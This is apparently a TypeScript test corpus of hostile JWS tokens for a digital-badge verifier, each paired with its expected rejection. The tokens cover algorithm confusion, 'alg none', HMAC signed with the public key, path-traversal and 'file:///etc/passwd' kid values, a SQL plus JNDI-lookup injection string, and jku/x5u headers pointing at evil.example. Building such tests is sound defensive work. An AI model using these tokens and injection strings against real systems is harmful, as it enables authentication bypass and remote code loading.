/**
 * Corpus cases on the JWS itself: algorithm confusion, hostile `kid` values, headers that
 * would make a verifier fetch or trust something else (`jku`, `x5u`, `x5c`, `jwk`, `crit`,
 * `b64`), and payloads with duplicate or hostile claims.
 */
import { base64url } from 'jose';
import { expectVerdict as v, type CorpusCase } from './case.ts';
import { header, ISSUER, jws, junkSignature, keyOf, kidOf, OTHER, urls, type World } from './world.ts';

const b64u = (s: string | Uint8Array) => base64url.encode(s);

async function hmac(hash: 'SHA-256' | 'SHA-512', secret: string, input: string): Promise<Uint8Array> {
  const k = await crypto.subtle.importKey(
    'raw',
    new TextEncoder().encode(secret),
    { name: 'HMAC', hash },
    false,
    ['sign'],
  );
  return new Uint8Array(await crypto.subtle.sign('HMAC', k, new TextEncoder().encode(input)));
}

export async function jwsCases(w: World): Promise<CorpusCase[]> {
  const ed = keyOf(w.keys, 'riverbend-ed25519');
  const rsa = keyOf(w.keys, 'riverbend-rs256');
  const ec = keyOf(w.keys, 'riverbend-es256');
  const harbor = keyOf(w.keys, 'harbor-ed25519');
  const evil = keyOf(w.keys, 'attacker-ed25519');
  const cred = await w.credential();
  const payload = w.payload(cred);
  const text = JSON.stringify(payload);
  const edKid = kidOf(ISSUER, ed);
  const withAlg = (alg: unknown, kid = edKid) => ({ alg, kid, typ: 'JWT' });
  const publicSecret = JSON.stringify(ed.publicJwk);
  const hs = async (alg: 'HS256' | 'HS512') => {
    const h = b64u(JSON.stringify(withAlg(alg)));
    const p = b64u(text);
    return `${h}.${p}.${b64u(await hmac(alg === 'HS256' ? 'SHA-256' : 'SHA-512', publicSecret, `${h}.${p}`))}`;
  };
  const unsignedNone = `${b64u(JSON.stringify({ alg: 'none', typ: 'JWT' }))}.${b64u(text)}.`;
  const fails = (code: string) => v('invalid', 'proof', 'fail', code);
  const kidCase = (name: string, description: string, kid: unknown, code: string): Promise<CorpusCase> =>
    jws({ alg: 'EdDSA', kid, typ: 'JWT' }, payload, evil).then((content) => ({
      id: `kid/${name}`,
      description,
      content,
      ext: 'jwt',
      expect: fails(code),
    }));

  const cases: Promise<CorpusCase>[] = [
    // Algorithm confusion
    jws(withAlg('ES256', kidOf(ISSUER, rsa)), payload, junkSignature()).then((content) => ({
      id: 'alg/rs256-key-named-es256',
      description: "The catalog's RSA key named with alg ES256: the key cannot make that kind of signature.",
      content,
      ext: 'jwt',
      expect: fails('ERR_KEY_INVALID'),
    })),
    jws(withAlg('EdDSA', kidOf(ISSUER, ec)), payload, evil).then((content) => ({
      id: 'alg/es256-key-with-alg-eddsa',
      description: "The catalog's P-256 key with alg EdDSA, signed by another Ed25519 key.",
      content,
      ext: 'jwt',
      expect: fails('ERR_KEY_INVALID'),
    })),
    jws(withAlg('PS256', kidOf(ISSUER, ec)), payload, junkSignature(256)).then((content) => ({
      id: 'alg/ps256-with-ec-key',
      description: 'RSA-PSS named for an EC key.',
      content,
      ext: 'jwt',
      expect: fails('ERR_KEY_INVALID'),
    })),
    jws(withAlg('RS256', edKid), payload, junkSignature(256)).then((content) => ({
      id: 'alg/rs256-with-ed25519-key',
      description: 'RS256 named for an Ed25519 key.',
      content,
      ext: 'jwt',
      expect: fails('ERR_KEY_INVALID'),
    })),
    jws(withAlg('ES384', kidOf(ISSUER, ec)), payload, junkSignature(96)).then((content) => ({
      id: 'alg/es384-with-p256-key',
      description: 'ES384 named for a P-256 key.',
      content,
      ext: 'jwt',
      expect: fails('ERR_KEY_INVALID'),
    })),
    ...(['none', 'None', 'nOnE', 'NONE'] as const).map((alg) =>
      jws(withAlg(alg), payload, junkSignature(8)).then((content): CorpusCase => ({
        id: `alg/${alg === 'none' ? 'none' : `none-${alg}`}`,
        description: `alg "${alg}" with a signature part: unsigned badges prove nothing, whatever the case.`,
        content,
        ext: 'jwt',
        expect: fails('ERR_ALG_NOT_ALLOWED'),
      })),
    ),
    Promise.resolve({
      id: 'alg/none-empty-signature',
      description: 'An unsigned JWT (alg none, empty signature): not even a compact JWS.',
      content: unsignedNone,
      ext: 'txt',
      expect: v('unreadable', 'format', 'fail', 'ERR_NOT_A_BADGE'),
    }),
    hs('HS256').then((content) => ({
      id: 'alg/hs256-public-key-as-secret',
      description: "HMAC with the catalog's public key as the shared secret (classic confusion).",
      content,
      ext: 'jwt',
      expect: fails('ERR_ALG_NOT_ALLOWED'),
    })),
    hs('HS512').then((content) => ({
      id: 'alg/hs512-public-key-as-secret',
      description: 'The same with HS512.',
      content,
      ext: 'jwt',
      expect: fails('ERR_ALG_NOT_ALLOWED'),
    })),
    jws({ kid: edKid, typ: 'JWT' }, payload, ed).then((content) => ({
      id: 'alg/missing',
      description: 'No alg at all, signed by the real key.',
      content,
      ext: 'jwt',
      expect: fails('ERR_ALG_NOT_ALLOWED'),
    })),
    jws(withAlg(['EdDSA']), payload, ed).then((content) => ({
      id: 'alg/not-a-string',
      description: 'alg as an array.',
      content,
      ext: 'jwt',
      expect: fails('ERR_ALG_NOT_ALLOWED'),
    })),
    jws({ alg: 'HS256', jwk: { kty: 'oct', k: b64u('secret') } }, payload, junkSignature(32)).then(
      (content) => ({
        id: 'alg/embedded-oct-key',
        description: 'A shared-secret key embedded in the header.',
        content,
        ext: 'jwt',
        expect: fails('ERR_ALG_NOT_ALLOWED'),
      }),
    ),
    // kid
    kidCase(
      'path-traversal',
      "A kid under the catalog's address that walks out of the key folder.",
      `${urls.root}issuers/${ISSUER}/keys/../../${OTHER}/keys/${harbor.kid}.json`,
      'ERR_KEY_NOT_IN_CATALOG',
    ),
    kidCase(
      'percent-encoded-traversal',
      'The same with %2e%2e.',
      `${urls.root}issuers/${ISSUER}/keys/%2e%2e/%2e%2e/${OTHER}/keys/${harbor.kid}.json`,
      'ERR_KEY_NOT_IN_CATALOG',
    ),
    kidCase('query', 'A catalog kid with ?x= appended.', `${edKid}?x=1`, 'ERR_KEY_NOT_IN_CATALOG'),
    kidCase('fragment', 'A catalog kid with #fragment appended.', `${edKid}#key-1`, 'ERR_KEY_NOT_IN_CATALOG'),
    kidCase(
      'very-long',
      'A kid of 20,000 characters.',
      `${edKid}${'A'.repeat(20_000)}`,
      'ERR_KEY_NOT_IN_CATALOG',
    ),
    kidCase('number', 'A kid that is a number, and no jwk.', 42, 'ERR_KEY_MISSING'),
    kidCase('object', 'A kid that is an object.', { url: edKid }, 'ERR_KEY_MISSING'),
    kidCase('file-url', 'A kid naming a local file.', 'file:///etc/passwd', 'ERR_KEY_MISSING'),
    kidCase(
      'injection',
      'A kid carrying SQL and template injection.',
      "' OR 1=1; -- ${jndi:ldap://evil.example/a}",
      'ERR_KEY_MISSING',
    ),
    kidCase(
      'bad-did-jwk',
      'A did:jwk whose key does not decode.',
      'did:jwk:eyJub3QiOiJhIGtleSJ9',
      'ERR_KEY_INVALID',
    ),
    jws(
      { alg: 'EdDSA', kid: 'did:ion:EiAnKD8-jfdd0MDcZUjAbRgaThBrMxPTFOxcnfJhI7Ukaw', typ: 'JWT' },
      payload,
      evil,
    ).then((content) => ({
      id: 'kid/unresolvable-did',
      description:
        'A kid naming a DID method this verifier does not resolve: the key cannot be obtained, so the signature could not be checked (never a pass, never a failure).',
      content,
      ext: 'jwt',
      expect: v('unverified', 'proof', 'warn', 'ERR_KEY_UNRESOLVED'),
      network: { fetched: [] },
    })),
    jws({ alg: 'EdDSA', kid: 'https://evil.example/keys/1', typ: 'JWT' }, payload, evil).then((content) => ({
      id: 'kid/external-url-offline',
      description:
        'A kid on another site: fetching is off, so the signature cannot be checked (never a pass).',
      content,
      ext: 'jwt',
      expect: v('unverified', 'proof', 'warn', 'ERR_FETCH_NOT_ALLOWED'),
    })),
    jws({ ...header(ISSUER, ed), jwk: evil.publicJwk }, payload, evil).then((content) => ({
      id: 'kid/catalog-kid-with-own-jwk',
      description:
        "The catalog's kid plus the attacker's key in jwk, signed by the attacker: the catalog key wins.",
      content,
      ext: 'jwt',
      expect: fails('ERR_SIGNATURE_INVALID'),
    })),
    // Headers that must be ignored or refused
    ...(
      [
        ['jku', { jku: 'https://evil.example/jwks.json' }],
        ['x5u', { x5u: 'https://evil.example/cert.pem' }],
        [
          'x5c',
          {
            x5c: [
              'MIIBkTCB+wIJAKHBfpegPjMCMA0GCSqGSIb3DQEBCwUAMBExDzANBgNVBAMMBmV2aWwtY2EwHhcNMjQwMTAxMDAwMDAwWhcNMzQwMTAxMDAwMDAwWjARMQ8wDQYDVQQDDAZldmlsLWNh',
            ],
          },
        ],
      ] as const
    ).map(([name, extra]) =>
      jws(header(ISSUER, ed, extra), payload, ed).then((content): CorpusCase => ({
        id: `header/${name}-ignored`,
        description: `A genuine badge with a ${name} header: ignored and never fetched.`,
        content,
        ext: 'jwt',
        expect: v('verified', 'proof', 'pass'),
        network: { fetched: [] },
      })),
    ),
    jws({ alg: 'EdDSA', kid: 'attacker-key-1', jku: 'https://evil.example/jwks.json' }, payload, evil).then(
      (content) => ({
        id: 'header/jku-with-unknown-kid',
        description: "An attacker's token pointing jku at its own key set: nothing is fetched.",
        content,
        ext: 'jwt',
        expect: fails('ERR_KEY_MISSING'),
        network: { fetched: [] },
      }),
    ),
    jws(header(ISSUER, ed, { crit: ['exp'] }), payload, ed).then((content) => ({
      id: 'header/crit',
      description:
        'A genuine signature with a crit header this verifier does not understand: rejected (RFC 7515 §4.1.11).',
      content,
      ext: 'jwt',
      expect: fails('ERR_HEADER_NOT_ALLOWED'),
    })),
    jws(header(ISSUER, ed, { b64: false, crit: ['b64'] }), payload, ed).then((content) => ({
      id: 'header/b64-false',
      description: 'Unencoded payload option.',
      content,
      ext: 'jwt',
      expect: fails('ERR_HEADER_NOT_ALLOWED'),
    })),
    jws(`${JSON.stringify(header(ISSUER, ed)).slice(0, -1)},"alg":"none"}`, payload, ed).then((content) => ({
      id: 'header/duplicate-alg',
      description: 'The header names alg twice.',
      content,
      ext: 'jwt',
      expect: v('unreadable', 'format', 'fail', 'ERR_JSON_MALFORMED'),
    })),
    jws(
      `{"__proto__":{"alg":"none","crit":["x"]},${JSON.stringify(header(ISSUER, ed)).slice(1)}`,
      payload,
      ed,
    ).then((content) => ({
      id: 'header/proto-member',
      description: 'A __proto__ member in the header is plain data: the genuine badge still verifies.',
      content,
      ext: 'jwt',
      expect: v('verified', 'proof', 'pass'),
    })),
    // Claims
    jws(header(ISSUER, ed), `${text.slice(0, -1)},"iss":"https://evil.example/issuer"}`, ed).then(
      (content) => ({
        id: 'claims/duplicate-iss',
        description:
          'The payload says iss twice (signed by the real key): rejected, since readers could disagree on which counts.',
        content,
        ext: 'jwt',
        expect: v('unreadable', 'format', 'fail', 'ERR_JSON_MALFORMED'),
      }),
    ),
    jws(header(ISSUER, ed), `{"\\u0069ss":"https://evil.example/issuer",${text.slice(1)}`, ed).then(
      (content) => ({
        id: 'claims/duplicate-iss-escaped',
        description: 'The same duplicate, spelt with a \\u escape.',
        content,
        ext: 'jwt',
        expect: v('unreadable', 'format', 'fail', 'ERR_JSON_MALFORMED'),
      }),
    ),
    jws(
      header(ISSUER, ed),
      text.replace(
        '"validFrom":',
        '"validUntil":"2099-01-01T00:00:00Z","validUntil":"2025-01-01T00:00:00Z","validFrom":',
      ),
      ed,
    ).then((content) => ({
      id: 'claims/duplicate-valid-until',
      description: 'validUntil twice in the credential.',
      content,
      ext: 'jwt',
      expect: v('unreadable', 'format', 'fail', 'ERR_JSON_MALFORMED'),
    })),
    jws(header(ISSUER, ed), { ...payload, iss: urls.profile(OTHER) }, ed).then((content) => ({
      id: 'claims/iss-mismatch',
      description: 'iss names another issuer than the credential.',
      content,
      ext: 'jwt',
      expect: v('invalid', 'claims', 'fail', 'ERR_CLAIMS_MISMATCH'),
    })),
    jws(header(ISSUER, ed), text.replace(/"nbf":\d+/, '"nbf":1e400'), ed).then((content) => ({
      id: 'claims/huge-nbf',
      description: 'nbf = 1e400 (Infinity once parsed).',
      content,
      ext: 'jwt',
      expect: v('invalid', 'claims', 'fail', 'ERR_CLAIMS_MISMATCH'),
    })),
    jws(
      header(ISSUER, ed),
      { ...payload, evidence: [JSON.parse(`${'{"a":'.repeat(70)}1${'}'.repeat(70)}`)] },
      ed,
    ).then((content) => ({
      id: 'claims/deep-nesting',
      description: 'A member nested 70 levels deep.',
      content,
      ext: 'jwt',
      expect: v('unreadable', 'format', 'fail', 'ERR_JSON_MALFORMED'),
    })),
    jws(
      header(ISSUER, ed),
      {
        ...payload,
        vc: {
          '@context': ['https://www.w3.org/2018/credentials/v1'],
          type: ['VerifiableCredential'],
          issuer: urls.profile(OTHER),
        },
      },
      ed,
    ).then((content) => ({
      id: 'claims/smuggled-vc',
      description:
        'A second credential smuggled in a vc claim (signed by the real key): the token is read as VC 1.1, and its claims disagree with the credential it then carries.',
      content,
      ext: 'jwt',
      expect: v('invalid', 'claims', 'fail', 'ERR_CLAIMS_MISMATCH'),
    })),
  ];
  return Promise.all(cases);
}
